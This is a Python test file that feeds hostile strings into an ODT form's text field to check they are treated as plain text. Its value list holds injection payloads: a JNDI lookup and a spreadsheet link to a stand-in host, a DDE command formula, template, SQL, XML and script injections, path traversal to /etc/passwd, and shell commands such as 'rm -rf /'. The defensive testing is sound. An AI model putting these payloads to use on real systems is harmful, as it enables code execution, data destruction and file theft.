"""Answers that would be something else to another program: each is text like any other."""

from __future__ import annotations

from xml.sax.saxutils import quoteattr

from forms.returns import RefusalCode as R
from tests.intake.hostile import odt, odt_content
from tests.intake.hostile_case import READ, Case, cases

VALUES = {
    "spreadsheet formula": '=HYPERLINK("http://198.51.100.1","cliquez")',
    "telephone": "+33 6 12 34 56 78",
    "spreadsheet function": "@SUM(1+1)*cmd|'/C calc'!A0",
    "negative": "-5",
    "tab then formula": "\t=1+1",
    "template output": "{{7*7}}",
    "template block": "{% for x in range(10**9) %}{{ x }}{% endfor %}",
    "French template block": "{{ pour x dans vue }}",
    "percent format": "%s%n%x",
    "JNDI": "${jndi:ldap://198.51.100.1/a}",
    "script": "<script>alert(1)</script>&lt;b&gt;",
    "XML end": "]]></text:p><office:body>",
    "SQL": "'; DROP TABLE submissions; --",
    "path": "../../../../etc/passwd",
    "right-to-left override": "rapport\u202efdp.exe",
    "zero width": "ou\u200bi\ufeff",
    "decomposed": "e\u0301te\u0301",
    "beyond the basic plane": "𝔸 𠮷 🏛",
    "zalgo": "o" + "\u0335\u0321\u0354\u0301" * 40,
    "other digits": "٤٢ ४२ ４２",
    "null word": "null",
    "huge integer": "9" * 5_000,
    "newlines": "ligne\nseconde\r\ntroisième\rquatrième",
    "shell": "$(reboot) `reboot` ; rm -rf /",
}


def holding(value: str) -> bytes:
    """Our form with `value` in a text field."""
    escaped = quoteattr(value, {"\n": "&#10;", "\r": "&#13;", "\t": "&#9;"})
    return odt(odt_content(f'<form:text xml:id="x" form:name="q" form:current-value={escaped}/>'))


CASES: list[Case] = [
    *cases("values", {name: (lambda value=value: holding(value), READ) for name, value in VALUES.items()}),
    *cases(
        "values", {"9 MB answer": (lambda: holding("a" * 9_000_000), R.TOO_LARGE), "900 kB answer": (lambda: holding("a" * 900_000), READ)}
    ),
]
